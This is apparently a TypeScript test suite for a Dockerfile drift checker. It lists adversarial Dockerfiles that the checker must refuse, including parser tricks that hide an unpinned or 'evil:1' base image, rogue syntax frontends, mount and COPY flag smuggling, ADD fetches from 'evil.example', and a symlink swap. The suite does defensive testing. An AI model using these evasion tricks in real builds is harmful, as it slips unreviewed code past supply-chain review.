import { rmSync, symlinkSync } from 'node:fs'
import { digest } from '@slipway/release/sample'
import { assertRefused, type Attack, type ScratchEstate } from '../estate.ts'

const pinned = `docker.io/library/node@${digest('c')}`
const sound = `FROM ${pinned}\nUSER 10001:10001\n`
const file = 'apps/web/Dockerfile'

/** What `drift` says: it reads git objects and has no build context. */
async function judged(estate: ScratchEstate, text: string) {
  estate.put(file, text)
  estate.commit('a Dockerfile')
  return estate.slipway('check', '--no-schemas', '--commit', 'HEAD')
}

const rows: readonly (readonly [name: string, code: string, text: string])[] = [
  ['a base that is whatever its tag means by then', 'image-base', sound.replace(/@.*/, ':24')],
  ['a base by an argument that a second one hides', 'image-base', `ARG A=evil:1 B=${pinned}\nFROM $A\nUSER 10001\n`],
  [
    'a base by an argument that quotes say anew',
    'image-base',
    `ARG A=${pinned}\nARG "A=evil:1"\nFROM $A\nUSER 10001\n`,
  ],
  ['a base behind a vertical tab', 'image-keyword', `${sound}FROM\u000bevil:1\n`],
  ['its own reader of the file', 'image-base', `# syntax=evil/reader:1\n${sound}`],
  ['its own reader of the file, below a first line #!', 'image-base', `#!/x\n# syntax=evil/reader:1\n${sound}`],
  [
    'its own reader of the file, in a comment of another language',
    'image-keyword',
    `// syntax=evil/reader:1\n${sound}`,
  ],
  [
    'another base behind what only a parser takes for a heredoc',
    'image-keyword',
    `${sound}RUN true \\<<X\nFROM evil:1\n`,
  ],
  ['the same in quotes', 'image-keyword', `${sound}RUN echo "a <<X b"\nFROM evil:1\n`],
  [
    'files of an image, by a flag behind a blank of another kind',
    'image-keyword',
    `${sound}COPY --chown=1\u00a0--from=evil:1 /x /y\n`,
  ],
  [
    'a name for an image, in a text that a parser takes for a stage',
    'image-keyword',
    `${sound}RUN 3<<USER\nFROM ${pinned} AS evil\nUSER\nCOPY --from=evil /x /y\n`,
  ],
  ['its own reader of the file, by JSON', 'image-keyword', `{"syntax":"evil/reader:1"}\n${sound}`],
  ['files of an image, by a flag with quotes', 'image-base', `${sound}COPY --fr"om"=evil:1 /x /y\n`],
  [
    'files of an image, by a mount in capitals',
    'image-base',
    `${sound}RUN --mount=type=bind,FROM=evil:1,target=/x true\n`,
  ],
  [
    'files of an image, by a mount in quotes',
    'image-base',
    `${sound}RUN --mount=type=bind,"from=evil:1",target=/x true\n`,
  ],
  [
    'files of an image, by the second of two in a mount',
    'image-base',
    `${sound}RUN --mount=from=${pinned},from=evil:1 true\n`,
  ],
  ['files of an image, in each build upon it', 'image-base', `${sound}ONBUILD COPY --from=evil:1 /x /y\n`],
  ['a file of the internet', 'image-fetched', `${sound}ADD https://evil.example/x /x\n`],
  ['a file of the internet, by a variable', 'image-fetched', `${sound}ADD $X /x\n`],
  ['a repository as it is by then', 'image-fetched', `${sound}ADD https://evil.example/x.git#main /x\n`],
]

export default [
  ...rows.map(
    ([name, code, text]): Attack => ({
      name: `puts into its image ${name}`,
      why: "what is built would be another thing tomorrow, and what was reviewed is not what runs; drift asks by the base's code",
      async run(estate) {
        const before = await judged(estate, sound)
        if (before.code !== 0) throw new Error(before.err)
        assertRefused(await judged(estate, text), code)
      },
    }),
  ),
  {
    name: 'builds from another file of its own, by a link',
    why: 'drift reads no link, and the build follows it',
    async run(estate) {
      estate.put('apps/web/other', 'FROM evil:1\n')
      estate.put(file, sound)
      rmSync(estate.full(file))
      symlinkSync('other', estate.full(file))
      estate.commit('a link')
      await estate.refuses('commit-link', ['check', '--no-schemas', '--commit', 'HEAD'])
    },
  },
] satisfies readonly Attack[]
